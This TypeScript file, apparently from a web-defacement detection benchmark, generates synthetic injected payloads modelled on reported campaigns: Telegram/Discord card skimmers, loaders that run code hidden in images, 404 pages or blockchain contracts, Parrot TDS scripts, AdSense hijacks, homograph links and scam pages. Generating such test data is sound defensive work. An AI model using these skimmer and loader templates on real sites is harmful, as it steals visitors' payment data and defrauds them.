/**
 * Fresh4 defacement classes: written after round 5, by someone who does not
 * read the engines, from public descriptions of real defacements, web
 * skimmers, SEO-spam and malvertising campaigns, phishing lures and scams.
 * Each differs from every class in defacements.ts, fresh-defacements.ts,
 * fresh2-defacements.ts and fresh3-defacements.ts (not a re-wording of one)
 * and varies its templates, languages and scripts, domains, positions and
 * sizes like them. Where a source is recalled from memory rather than
 * re-read, its comment says so. Scored in the `fresh4` group, never tuned on.
 */
import { type ChangeClass, bottom, cap, head, lang, say, scriptSpot, siteOr, top, attrTargets, resolve, setAttr } from "./classes.js"
import type { Page } from "./corpus.js"
import { b64, jsUrl, links, scriptTag } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate } from "./locales.js"
import { type Rng, alnum, between, chance, digits, hex, int, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, randomDomain, slug } from "./words.js"

const fresh4 = (name: string, make: (page: Page, rng: Rng) => Change, wholePage = false): ChangeClass =>
  wholePage ? { name, kind: "defacement", group: "fresh4", make, wholePage } : { name, kind: "defacement", group: "fresh4", make }

const zIndex = (rng: Rng) => between(rng, 9999, 2147483647)
/** The first slot after the page's list of latest posts (where comments and posts go), else the middle. */
const afterPosts = (page: Page): number => {
  const aside = page.spots.elements.find((e) => e.name === "aside" && (e.attribs.class ?? "").includes("latest-posts") && e.closeTag !== null)
  return aside?.closeTag == null ? slotAt(page.spots, "middle") : page.spots.slots.find((s) => s >= aside.closeTag!.end) ?? bottom(page)
}
const wrapScript = (rng: Rng, code: string) => `<script>${chance(rng, 0.3) ? `eval(atob("${b64(code)}"))` : code}</script>`

// Malwarebytes Labs (Jérôme Segura, September 2020), "Web skimmer steals credit card data via Telegram": the skimmer, inline on the shop's page, sends the checkout fields to the attackers' Telegram bot through api.telegram.org; later kits did the same with Discord webhooks (recalled from memory of Sansec and Jscrambler write-ups).
const telegramSkimmer = fresh4("skimmer sending form fields to a Telegram bot or Discord webhook", (page, rng) => {
  const token = `${digits(rng, 10)}:AA${alnum(rng, 33).replace(/[a-z]/g, (c) => (chance(rng, 0.4) ? c.toUpperCase() : c))}`
  const chat = pick(rng, [`-100${digits(rng, 10)}`, digits(rng, 9), digits(rng, 10)])
  const collect = `var d=[].map.call(document.querySelectorAll("input,select"),function(i){return (i.name||i.id)+"="+i.value}).join("\\n")`
  const trigger = pick(rng, [
    (send: string) => `document.addEventListener("click",function(e){var t=e.target;if(t&&t.closest&&t.closest("button,[type=submit],.checkout,#place_order")){${collect};if(/\\d{13,19}/.test(d.replace(/[ -]/g,""))||/checkout|payment|onestep/i.test(location.href)){${send}}}},true);`,
    (send: string) => `window.addEventListener("beforeunload",function(){${collect};if(d.length>${between(rng, 20, 60)}){${send}}});`,
    (send: string) => `setInterval(function(){${collect};if(/@/.test(d)&&d!==window._s){window._s=d;${send}}},${between(rng, 2000, 8000)});`
  ])
  const send = pick(rng, [
    () => `new Image().src=${jsUrl(rng, `https://api.telegram.org/bot${token}/sendMessage`)}+"?chat_id=${chat}&text="+encodeURIComponent(location.host+"\\n"+d);`,
    () => `fetch(${jsUrl(rng, `https://api.telegram.org/bot${token}/sendMessage`)},{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"${chat}",text:d})});`,
    () => `fetch(${jsUrl(rng, `https://discord.com/api/webhooks/${digits(rng, 19)}/${alnum(rng, 68)}`)},{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({content:location.host+"\\n"+d})});`
  ])()
  return splices(insert(pick(rng, [bottom(page), bottom(page), head(page), slotAt(page.spots, "middle")]), wrapScript(rng, trigger(send))))
})

// Malwarebytes Labs (Jérôme Segura, May 2020), "Web skimmer hides within EXIF metadata": the skimmer's code sits in the Copyright field of a favicon served from another site, and a small loader on the shop reads the image's bytes and runs that field; later steganographic skimmers decoded pixels drawn on a canvas (recalled from memory).
const imageCodeLoader = fresh4("loader running code hidden in an image from another host", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])
  const img = `https://${host}/${pick(rng, ["favicon.ico", "favicon.png", "images/logo.png", "static/icon-192.png", "wp-content/uploads/banner.jpg", "assets/img/pixel.gif"])}`
  const url = jsUrl(rng, img)
  const code = pick(rng, [
    `var x=new XMLHttpRequest();x.open("GET",${url},true);x.responseType="arraybuffer";x.onload=function(){var b=new Uint8Array(x.response),s="";for(var i=0;i<b.length;i++)s+=String.fromCharCode(b[i]);var m=/Copyright\\x00?([\\x20-\\x7e]{40,})/.exec(s);if(m)(0,eval)(m[1])};x.send();`,
    `fetch(${url}).then(function(r){return r.arrayBuffer()}).then(function(a){var s=new TextDecoder("latin1").decode(a),i=s.indexOf("${pick(rng, ["Copyright", "Artist", "ImageDescription"])}");if(i>-1){new Function(s.slice(i+${between(rng, 9, 17)},s.indexOf("\\x00",i+${between(rng, 9, 17)})))()}});`,
    `var g=new Image();g.crossOrigin="anonymous";g.onload=function(){var c=document.createElement("canvas");c.width=g.width;c.height=g.height;var t=c.getContext("2d");t.drawImage(g,0,0);var p=t.getImageData(0,0,g.width,g.height).data,s="";for(var i=0;i<p.length;i+=4){if(!p[i])break;s+=String.fromCharCode(p[i])}(0,eval)(s)};g.src=${url};`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Akamai Security Intelligence Group (Roman Lvovsky, October 2023), "Magecart attackers pioneer persistent injection via 404 pages": the loader hides in a malformed <img> tag's onerror attribute (or in code dressed as a pixel snippet) and pulls the skimmer from a comment in the site's own 404 page; stolen data leaves as an image request to the attackers.
const onerrorLoader = fresh4("skimmer loader in an image's onerror, reading the site's 404 page", (page, rng) => {
  const path = `/${pick(rng, ["static", "media", "assets", "checkout", "js"])}/${alnum(rng, between(rng, 6, 12))}`
  const exfil = `https://${pick(rng, [randomDomain(rng), libLookalike(rng)])}/${pick(rng, ["i.gif", "p.png", "pixel", "img/1x1.gif"])}`
  const code = pick(rng, [
    `fetch("${path}").then(function(r){return r.text()}).then(function(t){var m=/<!--\\s*([A-Za-z0-9+\\/=]{40,})\\s*-->/.exec(t);if(m)(0,eval)(atob(m[1]))})`,
    `var s=document.createElement("script");s.src=atob("${b64(`https://${randomDomain(rng)}/${alnum(rng, 8)}.js`)}");document.head.appendChild(s)`,
    `var x=new XMLHttpRequest();x.open("GET","${path}?"+Date.now());x.onload=function(){var c=x.responseText.split("<!--").pop().split("-->")[0];if(c.length>40){new Function(atob(c.trim()))();window._x=${JSON.stringify(exfil)}}};x.send()`
  ])
  const img = `<img src="${pick(rng, ["https:/", "data:image/gif;base64,", `${path}.png`, `https://${randomDomain(rng)}/${alnum(rng, 5)}.png`, "x"])}" ${pick(rng, [`width="1" height="1"`, `style="display:none"`, `alt=""`])} onerror="${esc(code)}">`
  return splices(insert(pick(rng, [bottom(page), bottom(page), top(page), slotAt(page.spots, "middle")]), img))
})

// Avast (Pavel Novák and Jan Rubín, April 2022), "Parrot TDS takes over web servers and threatens millions", and Sucuri's NDSW/NDSX clean-ups: an injected script that, for visitors arriving from elsewhere without a cookie, asks a PHP proxy the attackers planted on the same site for code and runs it.
const parrotTds = fresh4("script asking a proxy planted on the site itself for code (Parrot TDS)", (page, rng) => {
  const proxy = pick(rng, [
    "/wp-includes/js/jquery/ui/ui.php", "/wp-content/plugins/contact-form-7/includes/js/index.php", "/wp-admin/css/colors/blue/blue.php",
    `/wp-content/themes/${pick(rng, ["twentytwenty", "astra", "divi", "flatsome"])}/assets/js/${pick(rng, ["navigation", "skip-link", "customize"])}.php`,
    `/wp-includes/css/dist/block-library/${pick(rng, ["style", "common", "theme"])}.php`, `/templates/system/js/${alnum(rng, 6)}.php`
  ])
  const flag = pick(rng, ["ndsw", "ndsj", "ndsx", `_${alnum(rng, 4)}`])
  const obf = (s: string) => (chance(rng, 0.5) ? `['${s}']` : `.${s}`)
  const code = `;if(typeof ${flag}==="undefined"){var ${flag}=true,HttpClient=function(){this${obf("get")}=function(a,b){var c=new XMLHttpRequest();c${obf("onreadystatechange")}=function(){if(c${obf("readyState")}==4&&c${obf("status")}==200)b(c${obf("responseText")})};c${obf("open")}("GET",a,true);c${obf("send")}(null)}},rand=function(){return Math.random().toString(36).substr(2)},token=function(){return rand()+rand()};(function(){var a=navigator,b=document,f=window,i=b.cookie,j=f.location.hostname,k=f.location.protocol,l=b.referrer;if(l&&l.indexOf(j)===-1&&!i){var m=new HttpClient(),o=k+"//"+j+"${proxy}?id="+token();m.get(o,function(r){r.indexOf("${pick(rng, ["ndsx", "ndsw", "ndsj"])}")!==-1&&f.eval(r)})}})()};`
  return splices(insert(pick(rng, [head(page), bottom(page), top(page), bottom(page)]), `<script${chance(rng, 0.3) ? ` type="text/javascript"` : ""}>${code}</script>`))
})

// Guardio Labs (Nati Tal and Oleg Zaytsev, October 2023), "EtherHiding": hacked WordPress sites (the ClearFake campaign) load ethers.js and read the next-stage code from a Binance Smart Chain contract through a public RPC node, then run it, so no server of the attackers can be taken down.
const etherHiding = fresh4("loader reading its code from a blockchain contract (EtherHiding)", (page, rng) => {
  const contract = `0x${hex(rng, 40)}`
  const rpc = pick(rng, ["https://bsc-dataseed1.binance.org/", "https://bsc-dataseed.binance.org/", "https://bsc-testnet.publicnode.com", "https://data-seed-prebsc-1-s1.binance.org:8545/", "https://rpc.ankr.com/bsc", "https://polygon-rpc.com/"])
  const lib = pick(rng, ["https://cdnjs.cloudflare.com/ajax/libs/ethers/5.7.2/ethers.umd.min.js", "https://cdn.jsdelivr.net/npm/ethers@5.7.2/dist/ethers.umd.min.js", "https://unpkg.com/ethers@5.7.2/dist/ethers.umd.min.js"])
  const fn = pick(rng, ["load", "init", "_l", "run"])
  const getter = pick(rng, ["get", "getData", "input"])
  const viaEthers = `async function ${fn}(){let p=new ethers.providers.JsonRpcProvider("${rpc}");let c=new ethers.Contract("${contract}",[{inputs:[],name:"${getter}",outputs:[{internalType:"string",name:"",type:"string"}],stateMutability:"view",type:"function"}],p);let d=await c.${getter}();eval(atob(d))}window.addEventListener("load",${fn});`
  const rawRpc = `fetch(${jsUrl(rng, rpc)},{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({jsonrpc:"2.0",method:"eth_call",params:[{to:"${contract}",data:"0x6d4ce63c"},"latest"],id:${between(rng, 1, 99)}})}).then(function(r){return r.json()}).then(function(j){var h=j.result.slice(130),s="";for(var i=0;i<h.length;i+=2){var c=parseInt(h.substr(i,2),16);if(c)s+=String.fromCharCode(c)}eval(atob(s))});`
  const out: Array<Splice> = chance(rng, 0.6)
    ? [insert(head(page), `<script src="${lib}"></script>`), insert(pick(rng, [head(page), bottom(page)]), `<script>${viaEthers}</script>`)]
    : [insert(scriptSpot(rng, page), wrapScript(rng, rawRpc))]
  return { splices: out }
})

// AdSense and ad-revenue theft on hacked sites, recalled from memory: Sucuri (Ben Martin, February 2023) on some 10,000 hacked WordPress sites sending visitors to ad-stuffed pages for AdSense revenue, and clean-up reports of the attackers' own ca-pub publisher id put into a site's ad code; the site's ad slots, or new auto ads, now pay someone else.
const adsenseHijack = fresh4("ad code carrying another AdSense publisher id", (page, rng) => {
  const pub = `ca-pub-${digits(rng, 16)}`
  const els = page.spots.elements
  const slots = els.filter((e) => !e.inert && (e.attribs["data-ad-client"] ?? "").startsWith("ca-pub-"))
  const loaders = els.filter((e) => e.name === "script" && !e.inert && /ca-pub-\d+/.test(e.attribs.src ?? ""))
  if ((slots.length > 0 || loaders.length > 0) && chance(rng, 0.8)) {
    const out: Array<Splice> = slots.map((e) => setAttr(page, e, "data-ad-client", pub))
    for (const t of attrTargets(page, loaders, "src")) out.push(replace(t.value, esc(t.el.attribs.src!.replace(/ca-pub-\d+/, pub))))
    return { splices: out }
  }
  const loader = `<script async src="https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js?client=${pub}"${chance(rng, 0.7) ? ` crossorigin="anonymous"` : ""}></script>`
  const unit = `<ins class="adsbygoogle" style="display:block${chance(rng, 0.5) ? ";text-align:center" : ""}" data-ad-client="${pub}" data-ad-slot="${digits(rng, 10)}" data-ad-format="${pick(rng, ["auto", "fluid", "rectangle"])}"${chance(rng, 0.5) ? ` data-full-width-responsive="true"` : ""}></ins><script>(adsbygoogle=window.adsbygoogle||[]).push({});</script>`
  return pick(rng, [
    () => splices(insert(head(page), loader)),
    () => splices(insert(head(page), loader), insert(anySlot(rng, page.spots), unit)),
    () => splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), loader + unit))
  ])()
})

const homoglyphs: Record<string, string> = {
  a: "а", c: "с", e: "е", o: "о", p: "р", x: "х", y: "у", i: "і", j: "ј", s: "ѕ", h: "һ", d: "ԁ", l: "ӏ", q: "ԛ", w: "ԝ", n: "ո", u: "ս", g: "ɡ"
}

// IDN homograph attacks (Xudong Zheng's аррӏе.com demonstration, April 2017; IDN look-alike phishing domains in Farsight Security's and others' studies): the site's own links, often its sign-in or account links, now lead to a copy of its domain with one letter swapped for a Cyrillic or Armenian look-alike, written in Unicode or punycode. The technique is public; putting it on a hacked page is our placement.
const homographLinks = fresh4("own links pointed at a homograph (IDN look-alike) of the site's domain", (page, rng) => {
  const brand = page.site.brand
  const swappable = [...brand].map((c, i) => [c, i] as const).filter(([c]) => homoglyphs[c] !== undefined)
  let fake: string
  if (swappable.length === 0) fake = brandLookalike(rng, brand)
  else {
    const [c, i] = pick(rng, swappable)
    const label = brand.slice(0, i) + homoglyphs[c]! + brand.slice(i + 1)
    const uni = page.site.domain.replace(brand, label)
    fake = chance(rng, 0.5) ? uni : new URL(`https://${uni}/`).hostname
  }
  const host = page.site.host.startsWith("www.") && chance(rng, 0.7) ? `www.${fake}` : fake
  const own = links(page).filter((e) => {
    const u = resolve(page, e.attribs.href ?? "")
    return u !== null && (u.hostname === page.site.host || u.hostname.endsWith("." + page.site.domain))
  })
  const account = own.filter((e) => /log ?in|sign ?in|account|login|konto|compte|cuenta|conta|accedi|inloggen|checkout|cart|panier|warenkorb|donate|don|spenden/i.test(`${e.attribs.href} ${e.attribs.class ?? ""}`))
  const chosen = account.length > 0 && chance(rng, 0.6) ? account : sample(rng, own, Math.min(own.length, between(rng, 1, 6)))
  const targets = attrTargets(page, chosen, "href")
  if (targets.length === 0) return splices(insert(slotAt(page.spots, "top"), `<p><a href="https://${host}/${pick(rng, ["login", "account", "signin"])}">${esc(cap(brand))} ${pick(rng, ["login", "account", "sign in"])}</a></p>`))
  return splices(...targets.map((t) => {
    const u = resolve(page, t.el.attribs.href!)!
    return replace(t.value, esc(`https://${host}${u.pathname}${u.search}${u.hash}`))
  }))
})

const gamblingTerms: ReadonlyArray<{ readonly lang: string; readonly terms: ReadonlyArray<string> }> = [
  { lang: "th", terms: ["บาคาร่าออนไลน์", "สล็อตเว็บตรง", "แทงบอลออนไลน์", "เว็บพนันออนไลน์", "UFABET เข้าสู่ระบบ", "สล็อต pg แตกง่าย", "หวยออนไลน์", "คาสิโนออนไลน์ ได้เงินจริง"] },
  { lang: "zh", terms: ["澳门葡京赌场", "百家乐在线", "体育博彩", "开云体育", "皇冠足球", "真人荷官", "网上赌场", "六合彩开奖"] },
  { lang: "vi", terms: ["nhà cái uy tín", "cá cược bóng đá", "tài xỉu online", "đá gà trực tiếp", "game bài đổi thưởng", "nổ hũ uy tín", "soi kèo hôm nay"] },
  { lang: "ko", terms: ["토토사이트", "카지노사이트", "바카라사이트", "먹튀검증", "스포츠토토"] }
]

// Online-gambling link injections written in Asian scripts on hacked government, university and business sites, recalled from memory: Thai sites (.go.th, .ac.th) carrying baccarat and slot links (Thai press and ThaiCERT, 2022–2024), Chinese "black-hat SEO" casino links, Vietnamese and Korean betting spam seen in search-console clean-ups: a block of links, often in a tiny font at the foot of the page, sometimes with the title rewritten.
const asianGambling = fresh4("gambling links in Thai, Chinese, Vietnamese or Korean", (page, rng) => {
  const g = pick(rng, gamblingTerms)
  const dom = pick(rng, [randomDomain(rng), `${pick(rng, ["ufa", "pg", "bet", "kubet", "88", "w88", "789", "fun"])}${alnum(rng, 3)}.${pick(rng, ["com", "net", "co", "bet", "vip", "asia", "io"])}`])
  const terms = sample(rng, g.terms, between(rng, 2, g.terms.length))
  const anchors = terms.map((t) => `<a href="https://${pick(rng, [dom, dom, randomDomain(rng)])}/${pick(rng, ["", "?ref=" + alnum(rng, 6), alnum(rng, 5) + "/"])}" title="${esc(t)}">${esc(t)}</a>`)
  const size = pick(rng, ["1px", "2px", "3px", "0.1em", "11px", "12px", ""])
  const sep = pick(rng, [" ", " | ", " · ", "<br>"])
  const block = pick(rng, [
    `<div lang="${g.lang}" style="${size === "" ? "" : `font-size:${size};`}${chance(rng, 0.3) ? "color:#fefefe;" : ""}text-align:center">${anchors.join(sep)}</div>`,
    `<p lang="${g.lang}" class="${pick(rng, ["footer-links", "tags", "partner", "seo"])}"${size === "" ? "" : ` style="font-size:${size}"`}>${anchors.join(sep)}</p>`,
    `<ul lang="${g.lang}"${size === "" ? "" : ` style="font-size:${size};line-height:1"`}>${anchors.map((a) => `<li>${a}</li>`).join("")}</ul>`
  ])
  const out: Array<Splice> = [insert(pick(rng, [bottom(page), bottom(page), slotAt(page.spots, "bottom"), slotAt(page.spots, "middle"), top(page)]), block)]
  if (page.spots.title !== null && chance(rng, 0.35)) {
    out.push(replace(page.spots.title, esc(`${terms.slice(0, 2).join(" ")} ${pick(rng, ["|", "-", "_"])} ${chance(rng, 0.5) ? cap(page.site.brand) : terms[0]}`)))
  }
  return { splices: out }
})

const currencies = [
  ["Robux", "Roblox"], ["V-Bucks", "Fortnite"], ["Diamonds", "Free Fire"], ["UC", "PUBG Mobile"], ["Coins", "TikTok"],
  ["Gems", "Brawl Stars"], ["Steam Wallet Codes", "Steam"], ["Monopoly Go Dice", "Monopoly GO"], ["Coins", "Coin Master"]
] as const
const lockerWords: Record<Lang, readonly [string, string, string, string]> = {
  en: ["Enter your username", "Select amount", "Generate", "Human verification required: complete one offer to receive your"],
  fr: ["Entrez votre pseudo", "Choisissez le montant", "Générer", "Vérification humaine requise : complétez une offre pour recevoir vos"],
  de: ["Benutzernamen eingeben", "Menge wählen", "Generieren", "Menschliche Überprüfung nötig: Schließe ein Angebot ab, um deine"],
  es: ["Introduce tu usuario", "Elige la cantidad", "Generar", "Verificación humana requerida: completa una oferta para recibir tus"],
  nl: ["Vul je gebruikersnaam in", "Kies het aantal", "Genereren", "Menselijke verificatie vereist: voltooi één aanbieding om je"],
  pt: ["Digite seu usuário", "Escolha a quantidade", "Gerar", "Verificação humana necessária: conclua uma oferta para receber seus"],
  it: ["Inserisci il tuo username", "Scegli la quantità", "Genera", "Verifica umana richiesta: completa un'offerta per ricevere i tuoi"]
}

// "Free Robux / V-Bucks generator" spam pages on hacked and abused government, university and business sites, recalled from memory of 2020–2023 press reports and search-console clean-ups: a generator form (username, amount, "Generate"), a fake progress log, then a "human verification" content locker from a CPA offer network.
const currencyGenerator = fresh4("free game-currency generator with a content locker", (page, rng) => {
  const [coin, game] = pick(rng, currencies)
  const year = pick(rng, ["2025", "2026"])
  const h1 = pick(rng, [`Free ${coin} Generator ${year}`, `${game} Free ${coin} – No Human Verification ${year}`, `How to Get Free ${coin} in ${game} (Working ${year})`, `Free ${coin} Codes ${year} – Unused`])
  const [user, amount, gen, verify] = siteOr(rng, page, lockerWords)
  const locker = `https://${pick(rng, [randomDomain(rng), `${pick(rng, ["verify", "human", "check", "unlock"])}${alnum(rng, 3)}.${pick(rng, ["com", "net", "xyz", "top"])}`])}`
  const lockerScript = pick(rng, [
    () => scriptTag(rng, `${locker}/cl/js/${alnum(rng, 6)}`),
    () => `<script>var ${pick(rng, ["ogjs", "CPABUILDSETTINGS", "_lck"])}={it:${digits(rng, 7)},key:"${hex(rng, 5)}"};</script>${scriptTag(rng, `${locker}/${pick(rng, ["script_include.php", "locker.js", "cl/js/" + alnum(rng, 6)])}?id=${digits(rng, 7)}`)}`
  ])()
  const amounts = sample(rng, ["400", "800", "1,700", "4,500", "10,000", "22,500"], 4)
  const body = `<h1>${esc(h1)}</h1><form onsubmit="${esc(`document.getElementById("lg").style.display="block";setTimeout(function(){${pick(rng, ["_lck_show()", "og_load()", "call_locker()"])}},${between(rng, 3000, 9000)});return false`)}"><p><label>${user} <input type="text" name="username"></label></p><p>${amount}: ${amounts.map((a) => `<label><input type="radio" name="amount" value="${a}"> ${a} ${esc(coin)}</label>`).join(" ")}</p><p><button type="submit">${gen}</button></p></form><pre id="lg" style="display:none">Connecting to ${esc(game)} server...\nInjecting ${esc(coin)}...\n${verify} ${esc(coin)}.</pre><p>${verify} ${esc(coin)}.</p>`
  if (chance(rng, 0.35)) {
    const html = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${esc(h1)}</title><meta name="description" content="${esc(h1)}">${lockerScript}</head><body style="font-family:Arial,sans-serif;text-align:center;background:#${pick(rng, ["111", "1b1b2f", "0d1b2a", "fff"])};color:${pick(rng, ["#fff", "#eee", "#222"])}">${body}</body></html>`
    return { html }
  }
  const out: Array<Splice> = [insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), `<div class="${pick(rng, ["generator", "gen-box", "entry-content"])}" style="text-align:center;padding:16px;border:${between(rng, 1, 3)}px solid #${pick(rng, ["0a0", "f90", "36f"])}">${body}</div>`), insert(pick(rng, [head(page), bottom(page)]), lockerScript)]
  if (page.spots.title !== null && chance(rng, 0.5)) out.push(replace(page.spots.title, esc(h1)))
  return { splices: out }
}, true)

const fixtures: Record<string, ReadonlyArray<readonly [string, string]>> = {
  en: [["Arsenal", "Chelsea"], ["Liverpool", "Man City"], ["Chiefs", "Eagles"], ["Lakers", "Celtics"], ["Cowboys", "Giants"]],
  fr: [["PSG", "OM"], ["Lyon", "Monaco"], ["Lens", "Lille"], ["France", "Angleterre"]],
  de: [["Bayern", "Dortmund"], ["Leverkusen", "Leipzig"], ["Schalke", "HSV"], ["Deutschland", "Frankreich"]],
  es: [["Real Madrid", "Barcelona"], ["Atlético", "Sevilla"], ["Betis", "Valencia"], ["Boca", "River"]],
  nl: [["Ajax", "Feyenoord"], ["PSV", "AZ"], ["Nederland", "België"]],
  pt: [["Benfica", "Porto"], ["Flamengo", "Palmeiras"], ["Corinthians", "São Paulo"], ["Sporting", "Braga"]],
  it: [["Inter", "Milan"], ["Juventus", "Napoli"], ["Roma", "Lazio"], ["Italia", "Spagna"]]
}
const streamWords: Record<Lang, readonly [(a: string, b: string) => string, string, string]> = {
  en: [(a, b) => `${a} vs ${b} Live Stream Free – Watch Online HD`, "Watch the full match live and free in HD on any device. No sign-up, no cable. Reddit streams, Crackstreams and TV channels in one place.", "▶ Watch Live"],
  fr: [(a, b) => `${a} – ${b} en direct streaming gratuit`, "Regardez le match en direct et gratuitement en HD sur tous vos appareils, sans inscription.", "▶ Regarder en direct"],
  de: [(a, b) => `${a} gegen ${b} Live Stream kostenlos`, "Das ganze Spiel live und kostenlos in HD auf jedem Gerät, ohne Anmeldung.", "▶ Jetzt live ansehen"],
  es: [(a, b) => `${a} vs ${b} EN VIVO gratis online`, "Mira el partido en vivo y gratis en HD desde cualquier dispositivo, sin registro.", "▶ Ver en vivo"],
  nl: [(a, b) => `${a} – ${b} live stream gratis kijken`, "Kijk de hele wedstrijd live en gratis in HD op elk apparaat, zonder account.", "▶ Kijk live"],
  pt: [(a, b) => `${a} x ${b} AO VIVO grátis online`, "Assista ao jogo ao vivo e de graça em HD em qualquer aparelho, sem cadastro.", "▶ Assistir ao vivo"],
  it: [(a, b) => `${a} – ${b} diretta streaming gratis`, "Guarda la partita in diretta e gratis in HD da qualsiasi dispositivo, senza registrazione.", "▶ Guarda in diretta"]
}

// "Watch live stream free" sports spam published on abused and hacked sites (event calendars, university and council pages, forums), recalled from memory of search-engine spam reports around big matches 2019–2025: a post titled "Team A vs Team B live stream free" with a kick-off time and a button to a streaming site that asks for card details or shows malvertising.
const liveStreamSpam = fresh4("'team A vs team B live stream free' sports spam post", (page, rng) => {
  const l = chance(rng, 0.6) ? lang(page) : "en"
  const [a, b] = pick(rng, fixtures[l] ?? fixtures.en!)
  const [title, blurb, button] = streamWords[l]
  const dom = pick(rng, [randomDomain(rng), `${pick(rng, ["live", "hd", "tv", "stream", "sport"])}${pick(rng, ["stream", "sport", "tv", "hub", "kick"])}${between(rng, 1, 99)}.${pick(rng, ["live", "tv", "com", "xyz", "me", "to"])}`])
  const url = `https://${dom}/${pick(rng, ["watch", "live", "match", "event"])}/${slug(`${a}-${b}`)}${pick(rng, ["", "?ref=" + alnum(rng, 5)])}`
  const when = `${page.site.locale.date(someDate(rng))} ${pick(rng, ["15:00", "17:30", "18:45", "20:00", "20:45", "21:00"])}`
  const post = pick(rng, [
    () => `<article class="${pick(rng, ["post", "event", "type-tribe_events", "node"])}"><h2><a href="${url}">${esc(title(a, b))}</a></h2><p><time>${when}</time></p><p>${esc(blurb)}</p><p><a href="${url}" class="button" style="background:#e00;color:#fff;padding:10px 24px;font-weight:bold">${button}</a></p></article>`,
    () => `<div class="${pick(rng, ["entry", "event-item", "post-item"])}"><h3>${esc(title(a, b))}</h3><a href="${url}"><img src="https://${pick(rng, [dom, randomDomain(rng)])}/img/${alnum(rng, 8)}.jpg" alt="${esc(title(a, b))}" width="${pick(rng, ["480", "600", "640"])}"></a><p>${when} · ${esc(blurb)}</p></div>`,
    () => `<h2>${esc(title(a, b))}</h2><p>${esc(blurb)} <a href="${url}">${button}</a></p>`
  ])()
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), afterPosts(page), anySlot(rng, page.spots)]), post))
})

const taskWords: Record<Lang, readonly [string, (pay: string) => string, string]> = {
  en: ["We are hiring: remote online assistants", (p) => `Work from home 1–2 hours a day and earn ${p} per day rating products and apps. No experience needed, daily payout. Contact our HR manager to start today:`, "Apply on WhatsApp"],
  fr: ["Nous recrutons : assistants en ligne à distance", (p) => `Travaillez depuis chez vous 1 à 2 heures par jour et gagnez ${p} par jour en notant des produits. Sans expérience, paiement quotidien. Contactez notre RH :`, "Postuler sur WhatsApp"],
  de: ["Wir stellen ein: Online-Assistenten im Homeoffice", (p) => `Arbeiten Sie 1–2 Stunden am Tag von zu Hause und verdienen Sie ${p} pro Tag mit dem Bewerten von Produkten. Keine Erfahrung nötig, tägliche Auszahlung. Kontakt zur Personalabteilung:`, "Per WhatsApp bewerben"],
  es: ["Contratamos: asistentes online desde casa", (p) => `Trabaja desde casa 1–2 horas al día y gana ${p} al día valorando productos. Sin experiencia, pago diario. Contacta con nuestra responsable de RR. HH.:`, "Solicitar por WhatsApp"],
  nl: ["Vacature: online assistenten, thuiswerk", (p) => `Werk 1–2 uur per dag vanuit huis en verdien ${p} per dag met het beoordelen van producten. Geen ervaring nodig, dagelijkse uitbetaling. Neem contact op met HR:`, "Solliciteer via WhatsApp"],
  pt: ["Estamos contratando: assistentes online em home office", (p) => `Trabalhe de casa 1–2 horas por dia e ganhe ${p} por dia avaliando produtos. Sem experiência, pagamento diário. Fale com nosso RH:`, "Candidatar-se no WhatsApp"],
  it: ["Cerchiamo assistenti online da remoto", (p) => `Lavora da casa 1–2 ore al giorno e guadagna ${p} al giorno valutando prodotti. Nessuna esperienza, pagamento giornaliero. Contatta il nostro HR:`, "Candidati su WhatsApp"]
}

// The FTC's Data Spotlight "Paying to get paid" (December 2023) and the FBI IC3 PSA on work-from-home task scams (June 2024): "rate products or apps from home, earn a lot per day", contact through WhatsApp or Telegram, later "deposits" in crypto. Here placed on a hacked business site as a hiring notice in its language.
const taskScamJob = fresh4("'work from home, earn per day' task-scam job notice", (page, rng) => {
  const money = page.site.locale.money
  const pay = `${money(between(rng, 8, 20) * 10)}–${money(between(rng, 40, 90) * 10)}`
  const [h, p, b] = siteOr(rng, page, taskWords)
  const intl = pick(rng, ["+44 7", "+1 ", "+34 6", "+33 6", "+49 15", "+31 6", "+351 9", "+39 3", "+62 8", "+234 8"])
  const number = intl + digits(rng, intl.startsWith("+1") ? 10 : 8)
  const wa = `https://wa.me/${number.replace(/\D/g, "")}?text=${encodeURIComponent(pick(rng, ["Hello, I want the job", "Hi, I saw the job offer", "Job"]))}`
  const tg = `https://t.me/${pick(rng, ["hr_", "recruit_", "manager_", "job_"])}${pick(rng, ["emma", "lisa", "anna", "sarah", "julia", "nina"])}${digits(rng, 2)}`
  const link = chance(rng, 0.7) ? `<a href="${esc(wa)}">${b} ${esc(number)}</a>` : `<a href="${tg}">Telegram @${tg.split("/").pop()}</a>`
  const el = pick(rng, [
    `<div class="${pick(rng, ["notice", "careers", "job-ad"])}" style="border:2px solid #25d366;padding:14px;margin:12px 0"><h3>${h}</h3><p>${esc(p(pay))} ${link}</p></div>`,
    `<p><strong>${h}.</strong> ${esc(p(pay))} ${link}</p>`,
    `<section class="jobs"><h2>${h}</h2><ul><li>${esc(p(pay))}</li><li>${link}</li></ul></section>`
  ])
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), el))
})

const spamAuthors = ["Best Online Casino", "cheap essays", "CBD Oil UK", "Crypto Signals", "buy backlinks", "Replica Rolex", "Slot Gacor", "Payday Loans", "Instagram Followers", "Roofing Contractor Dallas", "Keto Gummies"]
const spamPraise: Record<Lang, ReadonlyArray<string>> = {
  en: ["Great post! I really like your writing style, keep it up.", "Very informative article, bookmarked for later. Thanks for sharing!", "I was looking for exactly this information. Check my site too if you have time."],
  fr: ["Super article ! J'aime beaucoup votre style, continuez.", "Article très instructif, merci pour le partage !"],
  de: ["Toller Beitrag! Gefällt mir sehr, weiter so.", "Sehr informativer Artikel, danke fürs Teilen!"],
